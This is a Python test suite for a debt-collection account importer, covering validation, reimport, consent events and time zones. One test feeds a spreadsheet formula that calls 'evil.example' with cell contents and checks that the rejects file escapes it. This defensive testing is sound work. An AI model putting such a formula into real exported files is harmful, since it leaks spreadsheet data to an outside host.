from __future__ import annotations

import csv
import json
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, func, select, update

from outreach import store
from outreach.clock import FixedClock
from outreach.importing.account_rows import ImportDefaults
from outreach.importing.accounts import ImportHooks, ImportSummary, import_accounts
from outreach.importing.rejects import RowProblem

HEADER = [
    "reference", "name", "balance", "currency", "due_date", "phone", "email", "timezone",
    "jurisdiction", "locale", "sms_consent", "voice_consent", "email_consent", "cadence",
]  # fmt: skip


def row(ref: str, **overrides: str) -> dict[str, str]:
    values = {
        "reference": ref,
        "name": f"Debtor {ref}",
        "balance": "120.50",
        "currency": "USD",
        "due_date": "2026-10-15",
        "phone": "(617) 555-0101",
        "email": f"{ref.lower()}@example.com",
        "timezone": "",
        "jurisdiction": "US-MA",
        "locale": "en_US",
        "sms_consent": "true",
        "voice_consent": "false",
        "email_consent": "true",
        "cadence": "standard",
    }
    values.update(overrides)
    return values


def write_csv(path: Path, rows: list[dict[str, str]], header: list[str] | None = None) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=header or HEADER, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    return path


def run_import(
    engine: Engine,
    path: Path,
    defaults: ImportDefaults,
    clock: FixedClock,
    **options: Any,
) -> ImportSummary:
    file_format = "jsonl" if path.suffix == ".jsonl" else "csv"
    return import_accounts(engine, path, file_format, defaults, clock, **options)


def snapshot(engine: Engine) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of the tables an import writes, for before/after comparisons."""
    tables = (store.accounts, store.contact_points, store.compliance_events)
    with engine.connect() as connection:
        return {
            table.name: [tuple(r) for r in connection.execute(select(table).order_by(table.c.id))]
            for table in tables
        }


def accounts_by_reference(engine: Engine) -> dict[str, Any]:
    with engine.connect() as connection:
        return {r.reference: r for r in connection.execute(select(store.accounts))}


def contacts_of(engine: Engine, reference: str) -> list[Any]:
    with engine.connect() as connection:
        return list(
            connection.execute(
                select(store.contact_points)
                .join(store.accounts, store.accounts.c.id == store.contact_points.c.account_id)
                .where(store.accounts.c.reference == reference)
                .order_by(store.contact_points.c.channel, store.contact_points.c.address)
            )
        )


def test_good_file_lands_every_row(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(
        tmp_path / "accounts.csv",
        [
            row("A-1"),
            row("A-2", balance="1,999.99", phone="+1 415 555 0123", jurisdiction="US-CA"),
            row("A-3", phone="", email="", timezone="America/Chicago", locale="es-US"),
        ],
    )
    summary = run_import(engine, path, defaults, clock)
    assert (summary.created, summary.updated, summary.rejected) == (3, 0, 0)
    accounts = accounts_by_reference(engine)
    assert accounts["A-1"].balance_minor == 12050
    assert accounts["A-1"].due_date == date(2026, 10, 15)
    assert accounts["A-1"].status == "active"
    assert accounts["A-1"].next_contact_at == clock.now()
    # Inferred from the phone number, which has exactly one zone.
    assert accounts["A-1"].timezone == "America/New_York"
    assert accounts["A-2"].balance_minor == 199999
    assert accounts["A-2"].timezone == "America/Los_Angeles"
    assert accounts["A-3"].timezone == "America/Chicago"
    assert accounts["A-3"].locale == "es_US"
    points = {(p.channel, p.address): p for p in contacts_of(engine, "A-1")}
    assert set(points) == {
        ("sms", "+16175550101"),
        ("voice", "+16175550101"),
        ("email", "a-1@example.com"),
    }
    assert points[("sms", "+16175550101")].consent is True
    assert points[("sms", "+16175550101")].consent_source == "import test.csv"
    assert points[("voice", "+16175550101")].consent is False
    assert points[("voice", "+16175550101")].consent_at is None
    assert contacts_of(engine, "A-3") == []


def test_bad_rows_are_reported_with_row_column_and_reason_while_good_rows_land(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(
        tmp_path / "mixed.csv",
        [
            row("G-1"),
            row("B-1", balance="12.345"),
            row("G-2"),
            row("B-2", phone="555-12", due_date="2026-02-30", email="nobody@"),
            row("B-3", reference=""),
            row("B-4", cadence="nonexistent", timezone="Mars/Olympus"),
            row("G-3"),
        ],
    )
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (3, 4)
    assert set(accounts_by_reference(engine)) == {"G-1", "G-2", "G-3"}
    problems = {p.row: p.errors for p in seen}
    assert sorted(problems) == [3, 5, 6, 7]  # the header is row 1
    assert problems[3] == ["balance: '12.345' has more than 2 decimal places for USD"]
    assert len(problems[5]) == 3
    assert any(e.startswith("phone: '555-12' is not a valid phone number") for e in problems[5])
    assert any(e.startswith("due_date: '2026-02-30' is not a calendar date") for e in problems[5])
    assert any(e.startswith("email: 'nobody@'") for e in problems[5])
    assert problems[6] == ["reference: is required"]
    assert any("cadence: 'nonexistent' is not a cadence" in e for e in problems[7])
    assert any("timezone: 'Mars/Olympus'" in e for e in problems[7])
    assert str(seen[0]).startswith("row 3: balance:")


def test_rejects_file_keeps_bad_rows_with_reasons_and_can_be_reimported(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(tmp_path / "in.csv", [row("G-1"), row("B-1", balance="abc")])
    rejects = tmp_path / "rejects.csv"
    run_import(engine, path, defaults, clock, rejects_path=rejects)
    with rejects.open(encoding="utf-8") as handle:
        rejected = list(csv.DictReader(handle))
    assert len(rejected) == 1
    assert rejected[0]["reference"] == "B-1"
    assert rejected[0]["row"] == "3"
    assert "balance: 'abc' is not an amount" in rejected[0]["errors"]
    # The operator fixes the balance and imports the rejects file as it is.
    rejected[0]["balance"] = "10.00"
    fixed = write_csv(tmp_path / "fixed.csv", rejected, header=[*HEADER, "row", "errors"])
    summary = run_import(engine, fixed, defaults, clock)
    assert (summary.created, summary.rejected, summary.unknown_columns) == (1, 0, [])


def test_reimporting_the_same_file_changes_nothing(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(
        tmp_path / "accounts.csv",
        [row(f"R-{i}", phone=f"+1617555{100 + i:04d}") for i in range(25)],
    )
    first = run_import(engine, path, defaults, clock, batch_size=7)
    before = snapshot(engine)
    clock.advance(timedelta(days=1))
    second = run_import(engine, path, defaults, clock, batch_size=7)
    assert (first.created, second.created, second.updated, second.unchanged) == (25, 0, 0, 25)
    assert snapshot(engine) == before


def test_changed_balance_or_due_date_updates_the_account(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1"), row("A-2")]), defaults, clock)
    with engine.begin() as connection:  # the planner has moved A-1 on since
        connection.execute(update(store.accounts).values(next_contact_at=None))
    clock.advance(timedelta(hours=5))
    changed = write_csv(
        tmp_path / "b.csv", [row("A-1", balance="80.00", due_date="2026-11-30"), row("A-2")]
    )
    summary = run_import(engine, changed, defaults, clock)
    assert (summary.created, summary.updated, summary.unchanged) == (0, 1, 1)
    accounts = accounts_by_reference(engine)
    assert accounts["A-1"].balance_minor == 8000
    assert accounts["A-1"].due_date == date(2026, 11, 30)
    assert accounts["A-1"].updated_at == clock.now()
    # New figures: the planner reconsiders the account at its next tick.
    assert accounts["A-1"].next_contact_at == clock.now()
    assert accounts["A-2"].next_contact_at is None


def test_zero_balance_closes_the_account_and_import_never_reopens_it(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    run_import(
        engine,
        write_csv(tmp_path / "a.csv", [row("A-1"), row("A-2", balance="0")]),
        defaults,
        clock,
    )
    accounts = accounts_by_reference(engine)
    assert (accounts["A-2"].status, accounts["A-2"].next_contact_at) == ("paid", None)
    summary = run_import(
        engine, write_csv(tmp_path / "b.csv", [row("A-1", balance="0"), row("A-2", balance="50")]),
        defaults, clock,
    )  # fmt: skip
    accounts = accounts_by_reference(engine)
    assert accounts["A-1"].status == "paid"
    assert accounts["A-1"].closed_at == clock.now()
    assert accounts["A-2"].status == "paid"
    assert accounts["A-2"].balance_minor == 5000
    assert summary.kept_closed == 1


def test_reference_repeated_in_the_file_is_rejected_across_batches(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    rows = [row("D-1"), row("D-2"), row("D-1", name="Second"), row("D-3"), row("D-2", balance="1")]
    seen: list[RowProblem] = []
    summary = run_import(
        engine, write_csv(tmp_path / "dups.csv", rows), defaults, clock, batch_size=2,
        hooks=ImportHooks(on_problem=seen.append),
    )  # fmt: skip
    assert (summary.created, summary.rejected) == (3, 2)
    assert [str(p) for p in seen] == [
        "row 4: reference 'D-1' already appears at row 2",
        "row 6: reference 'D-2' already appears at row 3",
    ]
    assert accounts_by_reference(engine)["D-1"].name == "Debtor D-1"
    # The same file again: the repeats are still repeats, the rest unchanged.
    again = run_import(
        engine, write_csv(tmp_path / "dups.csv", rows), defaults, clock, batch_size=2
    )
    assert (again.unchanged, again.rejected) == (3, 2)


def test_dry_run_validates_and_counts_but_writes_nothing(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1")]), defaults, clock)
    before = snapshot(engine)
    path = write_csv(
        tmp_path / "b.csv", [row("A-1", balance="1.00"), row("A-2"), row("B", balance="x")]
    )
    summary = run_import(engine, path, defaults, clock, dry_run=True)
    assert (summary.created, summary.updated, summary.rejected) == (1, 1, 1)
    assert snapshot(engine) == before


def test_consent_changes_are_recorded_as_compliance_events(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1")]), defaults, clock)
    clock.advance(timedelta(days=2))
    revoked = write_csv(tmp_path / "b.csv", [row("A-1", sms_consent="false", voice_consent="yes")])
    summary = run_import(engine, revoked, defaults, clock)
    assert summary.updated == 1
    points = {p.channel: p for p in contacts_of(engine, "A-1")}
    assert points["sms"].consent is False
    assert points["sms"].consent_at == clock.now()
    assert points["voice"].consent is True
    with engine.connect() as connection:
        events = connection.execute(
            select(store.compliance_events.c.kind, store.compliance_events.c.channel).order_by(
                store.compliance_events.c.kind
            )
        ).all()
    assert [tuple(e) for e in events] == [("consent", "voice"), ("consent_revoked", "sms")]


def test_a_new_phone_supersedes_the_old_and_marked_numbers_stay_marked(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1")]), defaults, clock)
    with engine.begin() as connection:  # a debtor said "wrong number" on the voice line
        connection.execute(
            update(store.contact_points)
            .where(store.contact_points.c.channel == "voice")
            .values(status="wrong_number")
        )
    run_import(engine, write_csv(tmp_path / "b.csv", [row("A-1")]), defaults, clock)
    statuses = {(p.channel, p.address): p.status for p in contacts_of(engine, "A-1")}
    assert statuses[("voice", "+16175550101")] == "wrong_number"
    run_import(
        engine, write_csv(tmp_path / "c.csv", [row("A-1", phone="+16175550102")]), defaults, clock
    )
    statuses = {(p.channel, p.address): p.status for p in contacts_of(engine, "A-1")}
    assert statuses[("sms", "+16175550101")] == "superseded"
    assert statuses[("voice", "+16175550101")] == "wrong_number"
    assert statuses[("sms", "+16175550102")] == "active"
    # Back to the first number: the sms point comes back, the wrong number does not.
    run_import(engine, write_csv(tmp_path / "d.csv", [row("A-1")]), defaults, clock)
    statuses = {(p.channel, p.address): p.status for p in contacts_of(engine, "A-1")}
    assert statuses[("sms", "+16175550101")] == "active"
    assert statuses[("voice", "+16175550101")] == "wrong_number"


def test_second_phone_has_no_consent_unless_given_its_own(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    header = [*HEADER, "phone2", "phone2_type", "phone2_sms_consent"]
    rows = [
        row("A-1", phone2="(212) 555-0111", phone2_type="work"),
        row("A-2", phone="+16175550120", phone2="(212) 555-0112", phone2_sms_consent="true"),
    ]
    run_import(engine, write_csv(tmp_path / "a.csv", rows, header), defaults, clock)
    first = {(p.channel, p.address): p for p in contacts_of(engine, "A-1")}
    second_phone = first[("sms", "+12125550111")]
    assert (second_phone.consent, second_phone.kind, second_phone.priority) == (False, "work", 1)
    other = {(p.channel, p.address): p for p in contacts_of(engine, "A-2")}
    assert other[("sms", "+12125550112")].consent is True
    assert other[("voice", "+12125550112")].consent is False


def test_json_lines_with_exact_amounts(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "accounts.jsonl"
    lines = [
        json.dumps({**row("J-1"), "balance": 19.99, "sms_consent": True}),
        "{not json",
        json.dumps({**row("J-2"), "balance": "5", "currency": "JPY", "extra_field": 1}),
        json.dumps(["not", "an", "object"]),
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (2, 2)
    assert [p.row for p in seen] == [2, 4]
    accounts = accounts_by_reference(engine)
    assert accounts["J-1"].balance_minor == 1999
    assert (accounts["J-2"].balance_minor, accounts["J-2"].currency) == (5, "JPY")
    assert summary.unknown_columns == ["extra_field"]


def test_import_run_is_recorded(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(tmp_path / "a.csv", [row("A-1"), row("B", balance="")])
    summary = run_import(engine, path, defaults, clock)
    with engine.connect() as connection:
        run = connection.execute(select(store.import_runs)).one()
    assert run.id == summary.run_id
    assert (run.rows_read, run.created, run.rejected, run.dry_run) == (2, 1, 1, False)
    assert run.finished_at == clock.now()


@pytest.mark.parametrize("bad_share", [0.05])
def test_generated_file_with_bad_rows_lands_every_good_row(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock, bad_share: float
) -> None:
    """The 100,000-row acceptance check, scaled down; bench/ runs it at full size."""
    from bench.accounts_file import write_accounts_file

    path = tmp_path / "generated.csv"
    expected = write_accounts_file(path, rows=2000, bad_share=bad_share, seed=3)
    rejects = tmp_path / "rejects.csv"
    summary = run_import(engine, path, defaults, clock, rejects_path=rejects, batch_size=500)
    assert summary.created == expected.good
    assert summary.rejected == expected.bad
    with rejects.open(encoding="utf-8") as handle:
        rejected_rows = sorted(int(r["row"]) for r in csv.DictReader(handle))
    assert rejected_rows == expected.bad_rows
    with engine.connect() as connection:
        assert (
            connection.execute(select(func.count()).select_from(store.accounts)).scalar()
            == expected.good
        )
    again = run_import(engine, path, defaults, clock, batch_size=500)
    assert (again.created, again.updated, again.unchanged) == (0, 0, expected.good)


def test_a_file_without_some_columns_leaves_their_values_alone(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    full = row("A-1", timezone="America/Chicago", locale="es_US", cadence="pre-due")
    run_import(engine, write_csv(tmp_path / "full.csv", [full]), defaults, clock)
    before = contacts_of(engine, "A-1")
    balances_only = write_csv(
        tmp_path / "balances.csv",
        [{"reference": "A-1", "name": "Debtor A-1", "balance": "99.00", "due_date": "2026-10-15"}],
        header=["reference", "name", "balance", "due_date"],
    )
    summary = run_import(engine, balances_only, defaults, clock)
    assert summary.updated == 1
    account = accounts_by_reference(engine)["A-1"]
    assert account.balance_minor == 9900
    assert (account.timezone, account.locale, account.cadence, account.jurisdiction) == (
        "America/Chicago", "es_US", "pre-due", "US-MA",
    )  # fmt: skip
    assert contacts_of(engine, "A-1") == before
    # A file with phones but no consent columns changes no consent either.
    header = ["reference", "name", "balance", "due_date", "phone"]
    phones_only = write_csv(tmp_path / "phones.csv", [row("A-1", balance="99.00")], header=header)
    run_import(engine, phones_only, defaults, clock)
    points = {p.channel: p for p in contacts_of(engine, "A-1")}
    assert points["sms"].consent is True
    assert points["email"].status == "active"
    with engine.connect() as connection:
        assert (
            connection.execute(select(func.count()).select_from(store.compliance_events)).scalar()
            == 0
        )


def test_reimporting_after_a_payment_keeps_the_payment(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    from outreach.payments import record_payment

    path = write_csv(tmp_path / "a.csv", [row("A-1", balance="100.00")])
    run_import(engine, path, defaults, clock)
    record_payment(engine, clock, "A-1", "40.00")
    again = run_import(engine, path, defaults, clock)
    assert (again.updated, again.unchanged) == (0, 1)
    assert accounts_by_reference(engine)["A-1"].balance_minor == 6000
    # A new figure from the source system is the new truth.
    changed = run_import(
        engine, write_csv(tmp_path / "b.csv", [row("A-1", balance="70.00")]), defaults, clock
    )
    assert changed.updated == 1
    assert accounts_by_reference(engine)["A-1"].balance_minor == 7000


def test_semicolon_files_refuse_ambiguous_comma_amounts(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "eu.csv"
    path.write_text(
        "reference;name;balance;due_date\nE-1;Eva;12,500;2026-10-31\nE-2;Eli;12.50;2026-10-31\n",
        encoding="utf-8",
    )
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (1, 1)
    assert "ambiguous" in str(seen[0])
    assert accounts_by_reference(engine)["E-2"].balance_minor == 1250


def test_a_quote_left_open_names_the_lines_it_swallowed(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "quote.csv"
    lines = ["reference,name,balance,due_date", 'Q-1,"Bad quote,5.00,2026-10-31']
    lines += [f"G-{i},Good,5.00,2026-10-31" for i in range(3)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    seen: list[RowProblem] = []
    run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert len(seen) == 1
    assert "runs from line 2 to line 5 (a quote left open?)" in str(seen[0])


def test_json_structures_and_unreadable_numbers_are_rejected_rows(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "odd.jsonl"
    lines = [
        json.dumps({**row("J-1"), "name": {"first": "A"}}),
        '{"reference": "J-2", "balance": ' + "9" * 5000 + "}",
        json.dumps(row("J-3")),
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (1, 2)
    assert "name: expected a single value, not a JSON object or list" in str(seen[0])
    assert seen[1].row == 2


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_rejects_files_can_be_imported_again_as_they_are(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock, suffix: str
) -> None:
    source = tmp_path / f"in.{suffix}"
    bad = [row("B-1", balance="oops"), row("B-2", due_date="someday")]
    if suffix == "csv":
        write_csv(source, bad)
    else:
        source.write_text("".join(json.dumps(r) + "\n" for r in bad), encoding="utf-8")
    first = tmp_path / f"rejects1.{suffix}"
    second = tmp_path / f"rejects2.{suffix}"
    run_import(engine, source, defaults, clock, rejects_path=first)
    # Imported again as they are: still bad, still reported, and the header stays readable.
    again = run_import(engine, first, defaults, clock, rejects_path=second)
    assert (again.rejected, again.unknown_columns) == (2, [])
    third = run_import(engine, second, defaults, clock)
    assert third.rejected == 2
    assert [p.errors for p in third.problems] == [p.errors for p in again.problems]


def test_trailing_unnamed_columns_are_ignored(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "excel.csv"
    path.write_text(
        "reference,name,balance,due_date,,\nX-1,Ann,1.00,2026-10-31,,\n", encoding="utf-8"
    )
    summary = run_import(engine, path, defaults, clock)
    assert (summary.created, summary.rejected) == (1, 0)


def test_a_nul_character_rejects_its_row_and_the_good_rows_land(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    # A broken export: PostgreSQL cannot store NUL in text and would refuse the whole batch.
    rows = [row("N-1"), row("N-2", name="Pat\x00Doe"), row("N-3")]
    path = write_csv(tmp_path / "accounts.csv", rows)
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (2, 1)
    assert [str(problem) for problem in seen] == ["row 3: name: contains a NUL character"]
    with engine.connect() as connection:
        found = connection.execute(select(store.accounts.c.reference)).scalars().all()
    assert sorted(found) == ["N-1", "N-3"]


def test_a_phone_zone_outside_the_rows_state_is_not_taken_for_where_the_debtor_lives(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    # A New York mobile: its zone is the account's only where the row's state agrees (or
    # names none); a Californian keeps no zone of their own, so compliance weighs
    # California's zones and the phone's.
    path = write_csv(
        tmp_path / "accounts.csv",
        [
            row("Z-CA", phone="(212) 555-0101", jurisdiction="US-CA"),
            row("Z-NY", phone="(212) 555-0102", jurisdiction="US-NY"),
            row("Z-US", phone="(212) 555-0103", jurisdiction="US"),
            row("Z-SET", phone="(212) 555-0104", jurisdiction="US-CA",
                timezone="America/New_York"),
        ],
    )  # fmt: skip
    run_import(engine, path, defaults, clock)
    zones = {ref: account.timezone for ref, account in accounts_by_reference(engine).items()}
    assert zones == {
        "Z-CA": None,
        "Z-NY": "America/New_York",
        "Z-US": "America/New_York",
        "Z-SET": "America/New_York",  # given, not inferred: kept as it is
    }
    phones = {p.address: p.timezone for p in contacts_of(engine, "Z-CA") if p.channel == "sms"}
    assert phones == {"+12125550101": "America/New_York"}


def test_a_rejects_file_opens_in_a_spreadsheet_without_running_formulas(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Pat")'
    path = write_csv(tmp_path / "in.csv", [row("F-1", name=formula, balance="-abc")])
    rejects = tmp_path / "rejects.csv"
    run_import(engine, path, defaults, clock, rejects_path=rejects)
    with rejects.open(encoding="utf-8") as handle:
        [rejected] = list(csv.DictReader(handle))
    # A leading apostrophe: spreadsheets show the cell as text instead of running it.
    assert (rejected["name"], rejected["balance"]) == ("'" + formula, "'-abc")
    assert not [cell for cell in rejected.values() if cell[:1] in ("=", "+", "-", "@")]
    # Corrected and imported as it is, the name is what the first file said.
    rejected["balance"] = "10.00"
    fixed = write_csv(tmp_path / "fixed.csv", [rejected], header=[*HEADER, "row", "errors"])
    assert run_import(engine, fixed, defaults, clock).created == 1
    assert accounts_by_reference(engine)["F-1"].name == formula


def test_a_student_loans_servicer_account_number_is_kept_and_checked(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    header = [*HEADER, "servicer_account_no"]
    path = write_csv(
        tmp_path / "loans.csv",
        [
            row("L-1", servicer_account_no=" ln-77 "),
            row("L-2", servicer_account_no=""),
            row("L-3", servicer_account_no="9" * 65),
            row("L-4", servicer_account_no="LN\x0777"),
            row("L-5", servicer_account_no="ß" * 40),  # 80 characters in capitals
        ],
        header,
    )
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (2, 3)
    assert {p.row: p.errors for p in seen} == {
        4: ["servicer_account_no: longer than 64 characters"],
        5: ["servicer_account_no: contains a control character"],
        6: ["servicer_account_no: longer than 64 characters"],
    }
    found = accounts_by_reference(engine)
    # One spelling: "LN 77", "ln-77" and "LN.77" are one loan's number.
    assert (found["L-1"].servicer_account_no, found["L-2"].servicer_account_no) == ("LN77", None)
    # A file without the column leaves it alone; one with it empty clears it.
    run_import(engine, write_csv(tmp_path / "b.csv", [row("L-1", balance="99.00")]), defaults,
               clock)  # fmt: skip
    assert accounts_by_reference(engine)["L-1"].servicer_account_no == "LN77"
    cleared = write_csv(tmp_path / "c.csv", [row("L-1", servicer_account_no="")], header)
    assert run_import(engine, cleared, defaults, clock).updated == 1
    assert accounts_by_reference(engine)["L-1"].servicer_account_no is None
